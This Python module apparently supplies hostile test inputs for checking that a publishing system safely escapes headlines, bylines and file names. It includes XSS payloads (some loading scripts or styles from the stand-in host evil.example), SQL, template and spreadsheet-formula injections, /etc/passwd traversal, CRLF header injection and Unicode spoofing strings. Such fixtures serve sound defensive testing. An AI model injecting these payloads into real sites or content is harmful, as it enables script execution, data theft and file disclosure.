"""Hostile strings, as they could stand in a headline, a name, a byline, a file name or a quotation."""

from __future__ import annotations

RUN = "window.pwned=1"

MARKUP = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//evil.example/x.js></script>", f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror=\"{RUN}\">", f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>点我</text></a></svg>", f"<math><mi xlink:href=\"javascript:{RUN}\">x</mi></math>",
    f"<body onload={RUN}>", "<iframe src=\"javascript:parent.pwned=1\"></iframe>", "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    f"<object data=\"javascript:{RUN}\">", f"<embed src=\"javascript:{RUN}\">", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">", "<base href=//evil.example/>", f"<form action=javascript:{RUN}><button>提交",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>", f"<template><script>{RUN}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<xmp><img src=x onerror={RUN}></xmp>", f"<textarea></textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", "<style>@import '//evil.example/x.css';</style>", "<style>body{display:none}</style>",
    f"--><script>{RUN}</script>", f"<!--<img src=\"--><img src=x onerror={RUN}>\">", f"<![CDATA[<script>{RUN}</script>]]>", f"<a href=\"javascript:{RUN}\">点我</a>",
)  # fmt: skip
ATTRIBUTES = (
    f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus='", f"\" autofocus onfocus={RUN} x=\"", f"`onclick={RUN}`", f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"\\\" onerror={RUN} \\\"",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}",
)  # fmt: skip
LANGUAGES = (
    f"[点我](javascript:{RUN})", f"![x](x\"onerror=\"{RUN})", f"[x]: javascript:{RUN}", f"<javascript:{RUN}>", "# 标题\n\n| a | b |\n|---|---|", "`code` ~~x~~ **粗**",
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "'; drop table articles; --", "\" OR 1=1 --", "expression(alert(1))",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "]]></summary><script>window.pwned=1</script>", "../../../../etc/passwd",
)  # fmt: skip
LETTERS = (
    "\u202e会博进\u202c", "\u2066隔离\u2069", "进\u200b博\u200d会", "\ufeff开头", "空\u0000字符", "\u0085下一行\u2028行\u2029段", "Z\u0335\u0336\u0337a\u0338lgo" + "\u0301" * 60,
    "\U000e0001\U000e0041标签", "🏳️‍🌈👩‍👩‍👧", "ＡＢＣ＜ｓｃｒｉｐｔ＞", "长" * 20_000, "<" * 3_000, "\"" * 500, "\ue000\uf8f0私用", "\x1b[31m红\x1b[0m", "\r\nSet-Cookie: a=b",
)  # fmt: skip
ATTACKS = (*MARKUP, *ATTRIBUTES, *LANGUAGES, *LETTERS)
